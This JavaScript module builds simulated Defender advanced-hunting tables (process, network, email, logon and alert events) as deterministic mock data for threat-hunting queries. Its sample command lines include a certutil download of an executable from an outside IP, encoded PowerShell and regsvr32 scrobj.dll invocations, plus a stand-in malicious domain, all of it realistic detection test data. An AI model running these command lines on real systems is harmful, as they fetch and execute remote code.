// @ts-check
'use strict';

/**
 * The advanced-hunting tables of the simulated Graph (DeviceProcessEvents, DeviceNetworkEvents, EmailEvents,
 * IdentityLogonEvents, AlertInfo): generated row by row from a hash, so a table of any size costs nothing
 * until read, and reads the same every time. Queried by kql.js.
 */

const { hash32 } = require('../util');
const { SEED_DEVICES } = require('../mde/machines');

const DAY = 24 * 3600 * 1000;
// the devices of the Device* tables are the seeded Defender for Endpoint machines: a hunt's DeviceId is what
// the device actions take (hunt, then isolate)
const DEVICES = SEED_DEVICES.map((device) => device.computerDnsName);
const DEVICE_IDS = SEED_DEVICES.map((device) => device.id);
const USERS = ['kai.carter', 'alex.wilber', 'megan.bowen', 'adele.vance', 'lee.gu', 'nestor.wilke', 'diego.siciliani', 'svc-backup'];
const PROCS = ['powershell.exe', 'cmd.exe', 'rundll32.exe', 'svchost.exe', 'explorer.exe', 'chrome.exe', 'winword.exe', 'certutil.exe', 'msedge.exe', 'regsvr32.exe'];
const CMDS = ['-enc SQBFAFgA', '/c whoami', 'shell32.dll,Control_RunDLL', '-k netsvcs', '', '--type=renderer', '/n report.docx', '-urlcache -f http://198.51.100.7/a.exe', '--profile-directory=Default', '/s scrobj.dll'];
const URLS = ['login.microsoftonline.com', 'contoso.sharepoint.com', 'evil.example.net', 'update.example.org', 'cdn.example.com'];
const SUBJECTS = ['Invoice overdue', 'Your password expires today', 'Team lunch', 'Quarterly report', 'Shared document: budget.xlsx'];
const ALERT_TITLES = ['Suspicious PowerShell command line', 'Ransomware behavior detected', 'Phishing email delivered', 'Unusual sign-in', 'Credential dumping'];

/**
 * @typedef {{ name: string, type: 'DateTime' | 'String' | 'Int32' | 'Int64' | 'Boolean' | 'Double' }} Column
 * @typedef {{ name: string, columns: Column[], rowCount: number, rowAt: (i: number) => Record<string, any> }} Table
 */

/**
 * @param {string} name
 * @param {Column[]} columns
 * @param {(h: (k: number) => number, i: number) => Record<string, any>} gen
 * @param {number} seed
 * @returns {(rowCount: number, startMs: number) => Table}
 */
function tableFactory(name, columns, gen, seed) {
	return (rowCount, startMs) => {
		/** @type {Record<string, any>[]} generated rows, kept (tables are read-only) */
		const made = [];
		return {
		name,
		columns,
		rowCount,
		rowAt(i) {
			const cachedRow = made[i];
			if (cachedRow) return cachedRow;
			const base = hash32(i * 7919 + seed);
			const h = (/** @type {number} */ k) => hash32(base + k * 104729);
			const row = gen(h, i);
			// Newest first, spread evenly over the last 30 days.
			row.Timestamp = new Date(startMs - Math.floor(((i + 0.5) * 30 * DAY) / Math.max(rowCount, 1))).toISOString();
			made[i] = row;
			return row;
		},
		};
	};
}

/** @param {string[]} a @param {number} x */
const pick = (a, x) => a[x % a.length];

const FACTORIES = {
	DeviceProcessEvents: tableFactory(
		'DeviceProcessEvents',
		[
			{ name: 'Timestamp', type: 'DateTime' }, { name: 'DeviceId', type: 'String' }, { name: 'DeviceName', type: 'String' },
			{ name: 'ActionType', type: 'String' }, { name: 'FileName', type: 'String' }, { name: 'FolderPath', type: 'String' },
			{ name: 'ProcessCommandLine', type: 'String' }, { name: 'AccountName', type: 'String' }, { name: 'AccountDomain', type: 'String' },
			{ name: 'InitiatingProcessFileName', type: 'String' }, { name: 'ProcessId', type: 'Int64' }, { name: 'ReportId', type: 'Int64' },
		],
		(h, i) => {
			const d = h(1) % DEVICES.length;
			const f = pick(PROCS, h(2));
			return {
				Timestamp: '', DeviceId: DEVICE_IDS[d], DeviceName: DEVICES[d],
				ActionType: 'ProcessCreated', FileName: f, FolderPath: `C:\\Windows\\System32\\${f}`,
				ProcessCommandLine: `${f} ${pick(CMDS, h(3))}`.trim(), AccountName: pick(USERS, h(4)), AccountDomain: 'contoso',
				InitiatingProcessFileName: pick(PROCS, h(5)), ProcessId: 1000 + (h(6) % 60000), ReportId: i + 1,
			};
		},
		11,
	),
	DeviceNetworkEvents: tableFactory(
		'DeviceNetworkEvents',
		[
			{ name: 'Timestamp', type: 'DateTime' }, { name: 'DeviceId', type: 'String' }, { name: 'DeviceName', type: 'String' },
			{ name: 'ActionType', type: 'String' }, { name: 'RemoteIP', type: 'String' }, { name: 'RemotePort', type: 'Int32' },
			{ name: 'RemoteUrl', type: 'String' }, { name: 'LocalIP', type: 'String' }, { name: 'Protocol', type: 'String' },
			{ name: 'InitiatingProcessFileName', type: 'String' }, { name: 'ReportId', type: 'Int64' },
		],
		(h, i) => {
			const d = h(1) % DEVICES.length;
			return {
				Timestamp: '', DeviceId: DEVICE_IDS[d], DeviceName: DEVICES[d],
				ActionType: pick(['ConnectionSuccess', 'ConnectionFailed', 'InboundConnectionAccepted'], h(2)),
				RemoteIP: `198.51.100.${h(3) % 254 + 1}`, RemotePort: [443, 80, 445, 3389, 53][h(4) % 5],
				RemoteUrl: pick(URLS, h(5)), LocalIP: `10.0.${h(6) % 8}.${h(7) % 254 + 1}`, Protocol: pick(['Tcp', 'Udp'], h(8)),
				InitiatingProcessFileName: pick(PROCS, h(9)), ReportId: i + 1,
			};
		},
		23,
	),
	EmailEvents: tableFactory(
		'EmailEvents',
		[
			{ name: 'Timestamp', type: 'DateTime' }, { name: 'NetworkMessageId', type: 'String' }, { name: 'InternetMessageId', type: 'String' },
			{ name: 'SenderFromAddress', type: 'String' }, { name: 'RecipientEmailAddress', type: 'String' }, { name: 'Subject', type: 'String' },
			{ name: 'EmailDirection', type: 'String' }, { name: 'DeliveryAction', type: 'String' }, { name: 'ThreatTypes', type: 'String' },
			{ name: 'AttachmentCount', type: 'Int32' }, { name: 'ReportId', type: 'Int64' },
		],
		(h, i) => {
			const phish = h(1) % 10 === 0;
			return {
				Timestamp: '', NetworkMessageId: `${hash32(i).toString(16).padStart(8, '0')}-0000-4000-8000-${String(i).padStart(12, '0')}`,
				InternetMessageId: `<msg${i}@mail.example.com>`, SenderFromAddress: phish ? 'billing@evil.example.net' : `${pick(USERS, h(2))}@contoso.com`,
				RecipientEmailAddress: `${pick(USERS, h(3))}@contoso.com`, Subject: pick(SUBJECTS, h(4)), EmailDirection: phish ? 'Inbound' : 'Intra-org',
				DeliveryAction: phish && h(5) % 2 ? 'Blocked' : 'Delivered', ThreatTypes: phish ? 'Phish' : '', AttachmentCount: h(6) % 3, ReportId: i + 1,
			};
		},
		37,
	),
	IdentityLogonEvents: tableFactory(
		'IdentityLogonEvents',
		[
			{ name: 'Timestamp', type: 'DateTime' }, { name: 'ActionType', type: 'String' }, { name: 'LogonType', type: 'String' },
			{ name: 'Protocol', type: 'String' }, { name: 'AccountUpn', type: 'String' }, { name: 'AccountName', type: 'String' },
			{ name: 'AccountDomain', type: 'String' }, { name: 'DeviceName', type: 'String' }, { name: 'IPAddress', type: 'String' },
			{ name: 'Location', type: 'String' }, { name: 'Application', type: 'String' }, { name: 'FailureReason', type: 'String' },
		],
		(h) => {
			const fail = h(1) % 7 === 0;
			const u = pick(USERS, h(2));
			return {
				Timestamp: '', ActionType: fail ? 'LogonFailed' : 'LogonSuccess', LogonType: pick(['Interactive', 'Network', 'Resource access'], h(3)),
				Protocol: pick(['Kerberos', 'Ntlm', 'OAuth2'], h(4)), AccountUpn: `${u}@contoso.com`, AccountName: u, AccountDomain: 'contoso.com',
				DeviceName: pick(DEVICES, h(5)), IPAddress: `203.0.113.${h(6) % 254 + 1}`, Location: pick(['NL', 'US', 'DE', 'BR'], h(7)),
				Application: pick(['Active Directory', 'Microsoft 365', 'Azure Portal'], h(8)), FailureReason: fail ? 'WrongPassword' : '',
			};
		},
		41,
	),
	AlertInfo: tableFactory(
		'AlertInfo',
		[
			{ name: 'Timestamp', type: 'DateTime' }, { name: 'AlertId', type: 'String' }, { name: 'Title', type: 'String' },
			{ name: 'Category', type: 'String' }, { name: 'Severity', type: 'String' }, { name: 'ServiceSource', type: 'String' },
			{ name: 'DetectionSource', type: 'String' }, { name: 'AttackTechniques', type: 'String' },
		],
		(h, i) => ({
			Timestamp: '', AlertId: `da${String(i + 1).padStart(10, '0')}`, Title: pick(ALERT_TITLES, h(1)),
			Category: pick(['Execution', 'InitialAccess', 'CredentialAccess', 'Ransomware'], h(2)), Severity: pick(['Informational', 'Low', 'Medium', 'High'], h(3)),
			ServiceSource: pick(['Microsoft Defender for Endpoint', 'Microsoft Defender for Office 365', 'Microsoft Defender for Identity'], h(4)),
			DetectionSource: pick(['EDR', 'Antivirus', 'Custom detection'], h(5)), AttackTechniques: '["PowerShell (T1059.001)"]',
		}),
		53,
	),
};

const DEFAULT_ROWS = { DeviceProcessEvents: 200, DeviceNetworkEvents: 200, EmailEvents: 100, IdentityLogonEvents: 100, AlertInfo: 50 };

class HuntingData {
	/** @param {number} startMs */
	constructor(startMs) {
		this.startMs = startMs;
		/** @type {Record<string, number>} */
		this.rows = { ...DEFAULT_ROWS };
		/** @type {Map<string, Table>} */
		this.cache = new Map();
		/** bumped when data changes, so answers cached by callers can be dropped */
		this.version = 0;
	}
	/** @param {string} table @param {number} n */
	setRows(table, n) {
		this.version++;
		if (!(table in FACTORIES)) throw new Error(`Unknown hunting table '${table}'. Known: ${Object.keys(FACTORIES).join(', ')}`);
		this.rows[table] = n;
		this.cache.delete(table);
	}
	/** @param {string} name */
	table(name) {
		if (!(name in FACTORIES)) return undefined;
		let t = this.cache.get(name);
		if (!t) {
			t = /** @type {Record<string, any>} */ (FACTORIES)[name](this.rows[name], this.startMs);
			this.cache.set(/** @type {string} */ (name), /** @type {Table} */ (t));
		}
		return /** @type {Table} */ (t);
	}
}

module.exports = { HuntingData, TABLES: Object.keys(FACTORIES) };
